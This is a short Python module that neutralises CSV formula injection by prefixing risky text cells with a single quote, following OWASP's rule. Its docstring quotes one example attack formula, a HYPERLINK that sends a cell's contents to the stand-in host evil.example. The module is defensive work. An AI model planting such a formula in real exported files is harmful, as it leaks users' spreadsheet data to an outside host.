"""CSV that is safe to open in a spreadsheet: every CSV export writes through `csv_writer`.

A text cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return is read by
spreadsheets as a formula (`=HYPERLINK("http://evil.example/?leak="&A1,…)` sends the sheet
away). Following OWASP's rule, such a cell is prefixed with a single quote, which spreadsheets
show as text. Numbers are written as numbers."""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value`, with a text value that a spreadsheet would run as a formula made inert."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose every text cell goes through `safe_cell`."""

    def __init__(self, stream: TextIO) -> None:
        self._out = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._out.writerow([safe_cell(value) for value in row])


def csv_writer(stream: TextIO) -> SafeWriter:
    return SafeWriter(stream)
